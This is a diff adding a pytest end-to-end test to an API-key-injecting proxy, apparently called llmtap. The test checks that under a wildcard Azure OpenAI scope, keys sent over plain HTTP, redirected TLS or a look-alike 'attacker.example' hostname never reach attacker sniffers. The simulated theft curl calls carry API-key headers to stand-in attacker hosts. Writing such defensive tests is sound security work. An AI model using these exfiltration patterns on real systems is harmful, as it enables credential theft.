@@ -10,6 +10,8 @@ import json
 
 import pytest
 from test_credentials_e2e import assert_no_real_key_anywhere, exports, real_key, set_secret
+from test_key_theft_e2e import curl as theft_curl
+from test_key_theft_e2e import sniffer  # noqa: F401 - a fixture
 from testbed import Testbed
 
 pytestmark = pytest.mark.root
@@ -105,3 +107,39 @@ def attacks(testbed: Testbed, daemon, env: dict[str, str], placeholder: str, min
                                   "-H", f"api-key: {mine}", "-d", body)
     assert status == "403" and "may only be sent to myres.openai.azure.com" in blocked
     assert testbed.upstream_requests()[start:] == []  # nothing went out
+
+
+def test_with_scope_all_a_bare_wildcard_is_enough_and_no_key_leaves_elsewhere(
+        testbed, llmtap, sniffer):  # noqa: F811 - the fixture, imported
+    clear, tls = sniffer(), sniffer(tls=True, last_octet=5)
+    daemon = llmtap(scope="all", extra_hosts=["*.openai.azure.com"])
+    key = real_key("")
+    placeholder = set_secret(daemon, "azure", key, "--host", "*.openai.azure.com")
+    chat = f"{DEPLOYMENT}?api-version=2024-10-21"
+    body = '{"messages": [{"role": "user", "content": "hi"}]}'
+    start = len(testbed.upstream_requests())
+    # No name listed: with scope "all" every TCP/443 reaches the proxy, and the SNI decides.
+    status, reply = theft_curl(testbed, f"https://myres.openai.azure.com{chat}", "--cacert",
+                               str(daemon.ca_pem), "-H", f"api-key: {placeholder}", "-d", body)
+    assert status == 200 and json.loads(reply)["model"] == "gpt-4o-2024-11-20"
+    assert testbed.upstream_requests()[start]["headers"]["api-key"] == key
+    # Plain HTTP naming the resource, to an attacker's address.
+    status, reply = theft_curl(testbed, f"http://{clear.address}:443{chat}", "-H",
+                               "host: myres.openai.azure.com", "-H", f"api-key: {placeholder}", "-d", body)
+    assert status == 403 and "only added over HTTPS" in reply, reply
+    # TLS naming the resource, to an address whose certificate no root vouches for.
+    status, reply = theft_curl(testbed, f"https://myres.openai.azure.com{chat}", "--cacert",
+                               str(daemon.ca_pem), "--resolve", f"myres.openai.azure.com:443:{tls.address}",
+                               "-H", f"api-key: {placeholder}", "-d", body)
+    assert status == 502, reply
+    # A look-alike name is not decrypted at all: the client meets the attacker's own certificate.
+    lookalike = "myres.openai.azure.com.attacker.example"
+    status, _ = theft_curl(testbed, f"https://{lookalike}{chat}", "--cacert", str(daemon.ca_pem),
+                           "--resolve", f"{lookalike}:443:{tls.address}", "-H", f"api-key: {placeholder}")
+    assert status == 0  # curl refused the attacker's certificate: llmtap forged none
+    for spy in (clear, tls):
+        assert key.encode() not in spy.received() and b"api-key" not in spy.received()
+    assert not [r for r in daemon.records() if r["host"] == lookalike]
+    assert f"'{lookalike}' is not a target" not in daemon.stderr()  # passed through, never refused
+    daemon.stop()
+    assert_no_real_key_anywhere(daemon, key)
